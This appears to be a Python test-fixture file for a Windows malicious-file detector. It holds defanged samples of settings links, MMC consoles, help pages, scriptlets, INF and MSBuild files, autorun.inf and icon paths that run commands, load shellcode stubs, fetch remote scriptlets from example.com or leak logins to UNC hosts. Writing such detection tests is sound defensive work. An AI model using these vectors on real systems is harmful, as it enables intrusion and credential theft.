"""Files of Windows itself that start a program when they are opened."""

from plain import script

SETTINGS = '<?xml version="1.0" encoding="UTF-8"?>\n<PCSettings><SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent"><ApplicationInformation><AppID>x</AppID><DeepLink>{}</DeepLink></ApplicationInformation></SearchableContent></PCSettings>'
for link in ("%windir%\\system32\\cm·d.exe /c calc.exe", "power·shell.exe -c 1", "C:\\Windows\\System32\\msh·ta.exe http://example.com/a"):
    script("Settings_Link_Starts_Program", SETTINGS.format(link), case=True)

CONSOLE = '<?xml version="1.0"?>\n<MMC_ConsoleFile ConsoleVersion="3.0" ProgramMode="UserSDI">{}</MMC_ConsoleFile>'
for body in (
    '<StringTables><String ID="39">res://apds.dll/redi·rect.html?target=javascript:ev·al(external.Document.ScopeNamespace.GetRoot().Name)</String></StringTables>',
    '<String>RES://C:\\Windows\\System32\\apds.dll/redi·rect.html?target=javascript:x</String><String>x.load·XML(y); x.transform·Node(x)</String>',
    '<ConsoleTaskpads><Task Type="CommandLine" Command="x"><CommandLine Directory="" WindowState="Minimized" Command="power·shell.exe" Params="-e·nc aQBlAHgA"/></Task></ConsoleTaskpads>'.replace('Command="power·shell.exe"', 'Exe="C:\\Windows\\power·shell.exe"'),
):
    script("Management_Console_Runs_Script", CONSOLE.format(body))

HELP = '<OBJECT id=x classid="clsid:adb880a6·-d8ff-11cf-9377-00aa003b7a11" width=1 height=1><PARAM name="Command" value="ShortCut"><PARAM name="Item1" value="{}"></OBJECT><SCRIPT>x.Click();</SCRIPT>'
for item in (",cm·d.exe,/c calc.exe", ",power·shell,-w hidden -c 1", ", C:\\Windows\\System32\\msh·ta.exe, http://example.com/a"):
    script("Help_Page_Starts_Program", "<html><body>" + HELP.format(item) + "</body></html>", case=True)

for text in (
    '<?XML version="1.0"?>\n<script·let>\n<regis·tration progid="x" classid="{F0001111-0000-0000-0000-0000FEEDACDC}">\n<script language="JScript"><![CDATA[ var r = new Active·XObject("WScr·ipt.Shell").Run("calc.exe"); ]]></script>\n</regis·tration>\n</script·let>',
    '<comp·onent id="a"><regis·tration progid="b"/><script language="VBScript">Create·Object("She·ll.Application").ShellExecute "x"</script></comp·onent>',
    '<stylesheet xmlns="http://www.w3.org/1999/XSL/Transform" xmlns:ms="urn:schemas-microsoft-com:xslt" version="1.0"><ms:scr·ipt implements-prefix="user" language="JScript"><![CDATA[ var r = new Active·XObject("WScr·ipt.Shell").Run("cmd.exe"); ]]></ms:scr·ipt></stylesheet>',
):
    script("Scriptlet_Starts_Program", text)

for lines in (
    "[DefaultInstall_SingleUser]\nUnRegisterOCXs=UnRegisterOCXSection\n[UnRegisterOCXSection]\n%11%\\scr·obj.dll,NI,http://example.com/a.sct\n",
    "[DefaultInstall]\nRunPreSetup·Commands=RunPreSetup·CommandsSection\n[RunPreSetup·CommandsSection]\npower·shell -w hidden -c 1\ntaskkill /IM cmstp.exe /F\n",
    "[DefaultInstall.x]\nx=y\n[y]\nscr·obj.dll , NI , https://example.com/x\n",
):
    script("Setup_File_Runs_Script", "[version]\nSignature=$chicago$\nAdvancedINF=2.5\n" + lines, "; setup\n[Version]\nSignature=\"$Windows NT$\"\n" + lines, case=True)

TASK = '<Project ToolsVersion="4.0" xmlns="http://schemas.microsoft.com/developer/msbuild/2003"><Target Name="a"><T/></Target><Using·Task TaskName="T" TaskFactory="{}" AssemblyFile="C:\\Windows\\Microsoft.Net\\Framework\\v4.0.30319\\Microsoft.Build.Tasks.v4.0.dll"><Task><Code Type="Class" Language="cs"><![CDATA[ {} ]]></Code></Task></Using·Task></Project>'
for factory, code in (
    ("CodeTask·Factory", 'IntPtr p = Virtual·Alloc(0, n, 0x3000, 0x40); Marshal.Copy(b, 0, p, n); Create·Thread(0, 0, p, 0, 0, ref t);'),
    ("RoslynCodeTask·Factory", "Virtual·Protect(p, n, 0x40, out o); ((F)Marshal.GetDelegateFor·FunctionPointer(p, typeof(F)))();"),
    ("CodeTask·Factory", "Virtual·AllocEx(h, 0, n, 0x3000, 0x40); QueueUser·APC(p, t, 0);"),
):
    script("Build_File_Runs_Machine_Code", TASK.format(factory, code))

for text in (
    "[Shell]\nCommand=2\nIconFile=\\\\192.0.2.1\\share\\a.ico\n[Taskbar]\nCommand=ToggleDesktop\n",
    "[.ShellClassInfo]\nIconResource=\\\\example.com\\x\\a.ico\n",
    "[InternetShortcut]\nURL=https://example.com\nIconIndex=1\nIconFile=\\\\example.com\\%USERNAME%.icon\n",
    "[.ShellClassInfo]\nIconResource=\\\\a.local\\x\\a.ico\nIconFile=\\\\192.0.2.1\\x\\a.ico\n",
    "\ufeff[Shell]\nIconFile = //example.com/a/b.ico\n",
):
    script("Folder_Picture_Leaks_Login", text)

for text in (
    '<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>{}</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>',
    '<searchConnectorDescription xmlns="http://schemas.microsoft.com/windows/2009/searchConnector"><simpleLocation>\n  <url>{}</url>\n</simpleLocation></searchConnectorDescription>',
):
    for address in ("\\\\192.0.2.1\\DavWWWRoot\\", "http://example.com/dav", "file://example.com/x"):
        script("Library_Opens_Foreign_Folder", text.format(address))

for text in (
    "[AutoRun]\nopen=RECY·CLER\\S-5-3-42\\a.exe\nicon=%SystemRoot%\\system32\\SHELL32.dll,4\n",
    "[autorun]\nshell\\open\\command=wscr·ipt.exe a.vbs\nshell=open\n",
    "; x\n[autorun]\nshellexecute=rund·ll32 a.dll,x\n",
):
    script("Autorun_Starts_Hidden_Program", text, case=True)
